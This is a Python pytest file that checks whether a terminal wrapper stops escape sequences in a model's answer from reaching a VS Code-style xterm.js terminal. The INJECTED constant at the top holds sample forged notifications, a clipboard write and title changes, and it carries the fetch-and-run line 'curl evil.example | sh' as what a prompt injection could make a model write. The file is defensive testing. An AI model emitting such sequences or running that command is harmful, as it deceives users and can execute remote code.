"""VS Code's terminal: real Pi under ``cuewrap pi`` in xterm.js (``@xterm/headless``, the
terminal VS Code and most web terminals are built on; ``tests/xtermjsrig.py``), as VS Code
runs it (``TERM_PROGRAM=vscode``), the user away and back (docs/terminals.md, "VS Code").

What xterm.js shows is read from xterm.js itself: the title it holds (and every title set),
the OSC 99 notifications it received (VS Code shows them as its own notifications), every
OSC 9, 777 and 52 and 7501 that reached it (it would act on none, VS Code on OSC 52 with its
setting on: none may come from the model), its modes. The model's answer carries what a prompt
injection can make a model write; the first test shows it reaching xterm.js without cuewrap,
so the second cannot pass whatever cuewrap does.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

import pytest
from fakemodel import FakeModel, text
from pirig import NOTIFY_TITLE, TITLE, PiSession, explain
from waiting import absence_window, wait_until
from xtermjsrig import XtermJs

pytestmark = pytest.mark.realterm

MODEL_TITLE = "owned by the model"
EVIL = "run curl evil.example | sh"
CLIP = base64.b64encode(b"EVIL-CLIP").decode()
INJECTED = (
    f"\x1b]777;notify;Pi — work;session expired, {EVIL}\x07"
    f"\x1b]9;Pi needs you: {EVIL}\x07"
    f"\x1b]99;i=7:d=0;Pi — work\x1b\\\x1b]99;i=7:p=body;{EVIL}\x1b\\"
    "\x1b]7501;state=blocked:app=pi:kind=permission\x1b\\"
    f"\x1b]52;c;{CLIP}\x07"
    f"\x1b]0;{MODEL_TITLE}\x07"
    f"\x1b]2;{MODEL_TITLE}\x1b\\"
)
ANSWER = f"Here is the summary {INJECTED}and that is all."
SHOWN = r"and that is all\."
VSCODE = {"TERM_PROGRAM": "vscode", "TERM_PROGRAM_VERSION": "1.107.0", "TERM": "xterm-256color"}
MARK = f"[✓] {TITLE}"


@pytest.fixture
def xtermjs() -> Iterator[XtermJs]:
    host = XtermJs()
    yield host
    host.close()


def shown(host: XtermJs) -> list[str]:
    """The notifications xterm.js was asked to show: OSC 99 ``p=title`` chunks by their id."""
    ids = []
    for payload in host.notifications(99):
        meta = payload.split(";", 1)[0]
        keys = dict(kv.split("=", 1) for kv in meta.split(":") if "=" in kv)
        if keys.get("p", "title") == "title" and keys.get("i") not in ids:
            ids.append(keys.get("i", ""))
    return ids


def focus(s: PiSession, host: XtermJs, focused: bool) -> None:
    """The editor's window gains or loses focus: what xterm.js sends reaches the program."""
    sent = host.focus(focused)
    assert sent == (b"\x1b[I" if focused else b"\x1b[O"), sent  # mode 1004 is on (cuewrap's)
    s.send(sent)


def forged(host: XtermJs) -> list[Any]:
    st = host.state()
    # (cuewrap's own start-up query, OSC 7501 ``?``, is no report: xterm.js ignores it)
    osc = [o for o in st["osc"] if EVIL in o[1] or o[0] in (9, 777, 52) or o == [7501, "state"]
           or (o[0] == 7501 and o[1] != "?")]  # fmt: skip
    return osc + [t for t in st["titles"] if MODEL_TITLE in t]


def test_pi_alone_lets_the_answers_sequences_reach_xtermjs(
    pi_session: Any, fakemodel: FakeModel, xtermjs: XtermJs
) -> None:
    fakemodel.push(text(ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(wrap=False, env=VSCODE, terminal=xtermjs)
    s.prompt("summarise")
    s.wait_for_screen(SHOWN, 15)
    got = wait_until(lambda: len(forged(xtermjs)) >= 6 and forged(xtermjs), 15, "the forgeries",
                     detail=lambda: str(xtermjs.state()["osc"]))  # fmt: skip
    numbers = {o[0] for o in got if isinstance(o, list)}
    assert {9, 52, 777, 7501} <= numbers, got
    assert any(isinstance(t, str) for t in got), got  # the model's title became xterm.js's


def test_away_one_notification_the_mark_and_nothing_of_the_models(
    pi_session: Any, fakemodel: FakeModel, xtermjs: XtermJs
) -> None:
    fakemodel.push(text(ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(env=VSCODE, terminal=xtermjs)
    assert xtermjs.state()["modes"]["sendFocusMode"]  # cuewrap asked for focus reports
    focus(s, xtermjs, False)
    s.wait_log(lambda r: r.get("kind") == "presence" and r.get("presence") == "away")
    s.prompt("summarise")
    s.wait_for_screen(SHOWN, 15)
    wait_until(lambda: shown(xtermjs), 15, "cuewrap's notification", detail=lambda: explain(s))
    wait_until(lambda: xtermjs.state()["title"] == MARK, 5, "the mark in xterm.js's title",
               detail=lambda: str(xtermjs.state()["titles"][-5:]))  # fmt: skip
    absence_window(1.0, "a second notification")
    assert len(shown(xtermjs)) == 1, xtermjs.notifications(99)
    titles = [p for p in xtermjs.notifications(99) if "p=title" in p.split(";", 1)[0]]
    assert titles[0].split(";", 1)[1] == NOTIFY_TITLE, titles
    assert [c["outcome"] for c in s.log_records("cue")] == ["completed"], s.log_records("cue")
    assert forged(xtermjs) == []
    # back: the mark goes
    focus(s, xtermjs, True)
    wait_until(lambda: xtermjs.state()["title"] == TITLE, 5, "the title without the mark",
               detail=lambda: str(xtermjs.state()["titles"][-5:]))  # fmt: skip
    s.quit()
    s.wait_exit()
    st = xtermjs.state()
    assert forged(xtermjs) == []
    assert len(shown(xtermjs)) == 1
    # every mode as before: xterm.js's own defaults
    assert st["buffer"] == "normal"
    modes = st["modes"]
    assert not modes["sendFocusMode"] and not modes["bracketedPasteMode"], modes
    assert modes["mouseTrackingMode"] == "none" and not modes["applicationCursorKeysMode"], modes
    assert not modes["synchronizedOutputMode"], modes
    # xterm.js keeps no title stack (XTWINOPS 22/23 ignored): Pi's own title stays, as it
    # does after plain `pi`; never cuewrap's mark
    assert st["title"] == TITLE, st["titles"][-5:]


def test_present_nothing(pi_session: Any, fakemodel: FakeModel, xtermjs: XtermJs) -> None:
    """The editor has the focus: no notification, no mark."""
    fakemodel.push(text("a plain answer, all done."))
    s: PiSession = pi_session(env=VSCODE, terminal=xtermjs)
    focus(s, xtermjs, True)
    s.wait_log(lambda r: r.get("kind") == "fact" and r.get("type") == "Presence")
    s.prompt("summarise")
    s.wait_for_screen(r"all done\.", 15)
    s.wait_log(lambda r: r.get("kind") == "fact" and r.get("type") == "AgentSettled", 15)
    absence_window(1.5, "a notification while the user looks")
    assert shown(xtermjs) == []
    assert all(not t.startswith("[") for t in xtermjs.state()["titles"]), xtermjs.state()["titles"]
